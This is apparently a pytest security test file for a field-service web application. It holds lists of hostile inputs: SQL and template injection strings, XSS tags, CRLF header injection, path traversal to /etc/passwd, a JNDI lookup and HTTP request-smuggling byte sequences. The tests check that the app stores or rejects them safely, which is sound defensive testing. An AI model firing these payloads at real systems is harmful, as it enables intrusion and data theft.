"""Requests that mean harm, or make no sense, break nothing: names, bytes on the wire, and time."""

from __future__ import annotations

import asyncio
import html
from collections.abc import AsyncIterator
from typing import Any

import httpx2
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send

from core.identity import Tenant, User
from entrypoints.http.app import http_app
from entrypoints.http.middleware import Edge
from entrypoints.serving import serving
from tests.entrypoints.http.web import Web

NAMES = (
    "'; DROP TABLE jobs; --",
    '" OR "1"="1',
    "Robert'); DELETE FROM customers WHERE ('1'='1",
    "%27%20OR%201=1",
    "1; SELECT pg_sleep(10)",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "<script>alert(document.domain)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>",
    "Ana\r\nSet-Cookie: session=mine\r\n\r\n<html>",
    "Ana\u2028\u202egnirts\ufeff",
    "../../etc/passwd",
    "${jndi:ldap://203.0.113.1/a}",
    '=HYPERLINK("http://203.0.113.1")',
    "Ñandú 'O`Higgins' & <Hijos> S.R.L. 🛠",
)  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
async def test_a_hostile_name_comes_back_letter_by_letter(web: Web, name: str) -> None:
    customer = await web.post("/api/v1/customers", {"name": name, "address": name})
    if customer.status_code == 422:  # a name may be refused, as long as it says which field
        assert customer.json()["field"] in ("name", "address")
        return
    assert (customer.status_code, customer.json()["name"]) == (201, name.strip())
    assert (await web.get(f"/api/v1/customers/{customer.json()['id']}")).json()["name"] == name.strip()
    wanted = {"customerId": customer.json()["id"], "title": name, "request": name, "location": {"address": name}}
    made = await web.post("/api/v1/jobs", wanted)
    assert made.status_code == 201, made.text
    shown = (await web.get(f"/api/v1/jobs/{made.json()['id']}")).json()
    assert (shown["title"], shown["request"], shown["location"]["address"]) == (name.strip(), name, name)
    assert "set-cookie" not in made.headers


@pytest.mark.parametrize("name", NAMES)
async def test_a_hostile_name_is_only_text_on_the_customer_s_page(web: Web, name: str) -> None:
    people = [User(id="carlos", tenant="demo", name=name, role="technician")]
    await web.app.store.directory.enrol(Tenant(id="demo", name=name), people)
    job = await web.a_job()
    moved = await web.move(
        job,
        to="scheduled",
        technicianId="carlos",
        startsAt="2026-11-21T12:00:00Z",
        endsAt="2026-11-21T14:00:00Z",
        location={"address": name, "lat": -34.6, "lng": -58.4},
    )
    assert moved.status_code == 200, moved.text
    await web.move(job, to="en_camino")
    await web.settle()
    session = await web.app.store.sessions.of_job("demo", job["id"])
    assert session is not None
    page = await web.ask("GET", f"/track/{web.app.tracking.token_of(session.id)}", None)
    assert page.status_code == 200
    for tag in ("<script>alert", "<img src=x", "<svg/onload", "\r\nSet-Cookie: session=mine\r\n\r\n<html>"):
        assert tag not in page.text
    assert "49" not in page.text.partition("<body")[2].replace("{{ 7 * 7 }}", "") or "49" not in html.unescape(name)
    assert "set-cookie" not in page.headers


@pytest.fixture
async def wire(web: Web) -> AsyncIterator[tuple[str, int]]:
    """Give the address of the application behind the server that production has."""
    async with serving(http_app(web.app)) as url:
        parts = httpx2.URL(url)
        assert parts.port is not None
        yield parts.host, parts.port


POST = b"POST /api/v1/customers HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer TOKEN\r\n"
GET = b"GET %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer TOKEN\r\n\r\n"
RAW = {
    "two lengths": POST + b"Content-Length: 2\r\nContent-Length: 30\r\n\r\n{}",
    "two equal lengths": POST + b"Content-Length: 2\r\nContent-Length: 2\r\n\r\n{}",
    "a list of lengths": POST + b"Content-Length: 2, 2\r\n\r\n{}",
    "a length and chunks": POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/jobs HTTP/1.1\r\n\r\n",
    "chunks and a length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "an unknown coding": POST + b"Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "two codings": POST + b"Transfer-Encoding: chunked, identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "two coding lines": POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "a space before the colon": POST + b"Content-Length : 2\r\n\r\n{}",
    "a folded line": POST + b"X-A: b\r\n c\r\nContent-Length: 2\r\n\r\n{}",
    "a negative length": POST + b"Content-Length: -1\r\n\r\n{}",
    "a length with a sign": POST + b"Content-Length: +2\r\n\r\n{}",
    "a length of letters": POST + b"Content-Length: two\r\n\r\n{}",
    "an endless length": POST + b"Content-Length: " + b"9" * 400 + b"\r\n\r\n{}",
    "a length beyond the body": POST + b"Content-Length: 100\r\n\r\n{}",
    "a chunk without a size": POST + b"Transfer-Encoding: chunked\r\n\r\n{}\r\n0\r\n\r\n",
    "a chunk of an endless size": POST + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 60 + b"\r\n{}\r\n0\r\n\r\n",
    "bare line feeds": POST.replace(b"\r\n", b"\n") + b"Content-Length: 2\n\n{}",
    "no host": POST.replace(b"Host: x\r\n", b"") + b"Content-Length: 2\r\n\r\n{}",
    "two hosts": POST + b"Host: y\r\nContent-Length: 2\r\n\r\n{}",
    "a whole address": POST.replace(b"/api", b"http://evil.example/api") + b"Content-Length: 2\r\n\r\n{}",
    "a NUL in a header": POST + b"X-A: a\0b\r\nContent-Length: 2\r\n\r\n{}",
    "a carriage return in a header": POST + b"X-A: a\rX-B: b\r\nContent-Length: 2\r\n\r\n{}",
    "a control character in a name": POST + b"X\x01A: b\r\nContent-Length: 2\r\n\r\n{}",
    "bytes beyond ASCII": POST + b"X-\xff\xfe: \xff\xfe\r\nContent-Length: 2\r\n\r\n{}",
    "a NUL in the path": GET % b"/api/v1/jobs/%00",
    "a line break in the path": GET % b"/api/v1/jobs/a%0d%0aSet-Cookie:%20a=b",
    "no UTF-8 in the path": GET % b"/api/v1/jobs/%ff%fe",
    "a half escape": GET % b"/api/v1/jobs/%e",
    "the way up": b"GET /static/..%2f..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    "a long path": b"GET /" + b"a" * 60_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "a long header": b"GET /health HTTP/1.1\r\nHost: x\r\nX-A: " + b"a" * 200_000 + b"\r\n\r\n",
    "many headers": b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-A: a\r\n" * 5000 + b"\r\n",
    "an unknown method": b"BREW /api/v1/jobs HTTP/1.1\r\nHost: x\r\n\r\n",
    "an unknown version": b"GET /health HTTP/9.9\r\nHost: x\r\n\r\n",
    "no version": b"GET /health\r\n\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200,
    "an upgrade": b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n",
    "a socket where there is none": b"GET /api/v1/jobs HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
}  # fmt: skip


@pytest.mark.parametrize("raw", RAW.values(), ids=RAW)
async def test_bytes_that_make_no_sense_break_nothing(web: Web, wire: tuple[str, int], raw: bytes) -> None:
    answers = await exchanged(wire, raw.replace(b"TOKEN", (await web.token("marta")).encode()))
    statuses = [int(each.split(b" ", 2)[1]) for each in answers.split(b"\r\n") if each.startswith(b"HTTP/1.1 ")]
    assert [each for each in statuses if each >= 500] == []
    assert len(statuses) <= 2
    assert b"\r\nset-cookie" not in answers.lower()
    assert b"root:" not in answers
    assert b"Traceback" not in answers
    healthy = await exchanged(wire, b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
    assert healthy.startswith(b"HTTP/1.1 200")


async def exchanged(wire: tuple[str, int], raw: bytes) -> bytes:
    """Send the bytes, wait for an answer or for the end, and return all that came."""
    reader, writer = await asyncio.open_connection(*wire)
    try:
        writer.write(raw)
        received = b""
        try:
            async with asyncio.timeout(0.5):
                while more := await reader.read(65_536):
                    received += more
        except (TimeoutError, ConnectionError):
            pass
        return received
    finally:
        writer.close()


async def asked(inner: ASGIApp, path: str) -> httpx2.Response:
    edge = Edge(inner, False, 0.05)
    transport = httpx2.ASGITransport(app=edge, raise_app_exceptions=False)
    async with httpx2.AsyncClient(transport=transport, base_url="http://test") as client:
        return await client.get(path)


async def test_what_takes_too_long_is_given_up_and_said() -> None:
    ended = []

    async def forever(_: Request) -> Response:
        try:
            await asyncio.sleep(60)
        finally:
            ended.append(True)
        return Response()

    answer = await asked(Starlette(routes=[Route("/", forever)]), "/")
    assert (answer.status_code, answer.json()["code"], answer.headers["retry-after"]) == (503, "timeout", "5")
    assert answer.headers["content-type"] == "application/problem+json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.json()["requestId"] == answer.headers["x-request-id"]
    assert ended == [True]


async def test_an_answer_that_has_begun_is_cut_off_and_nothing_is_added_to_it() -> None:
    sent: list[Any] = []

    async def begun(_: Scope, __: Receive, send: Send) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await asyncio.sleep(60)

    async def send(message: Any) -> None:
        sent.append(message)

    async def receive() -> dict[str, str]:
        return {"type": "http.request"}

    scope = {"type": "http", "method": "GET", "path": "/", "headers": []}
    with pytest.raises(TimeoutError):
        await Edge(begun, False, 0.05)(scope, receive, send)
    assert [message["type"] for message in sent] == ["http.response.start"]


async def test_a_defect_with_the_name_of_a_time_out_is_a_defect() -> None:
    async def broken(_: Request) -> Response:
        raise TimeoutError

    answer = await asked(Starlette(routes=[Route("/", broken)]), "/")
    assert answer.status_code == 500


async def test_a_deep_or_huge_body_is_refused(web: Web) -> None:
    deep = b'{"name": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    for body, status in ((deep, 400), (b"{" + b" " * (1024 * 1024) + b"}", 413)):
        answer = await web.ask("POST", "/api/v1/customers", content=body)
        assert answer.status_code == status, answer.text
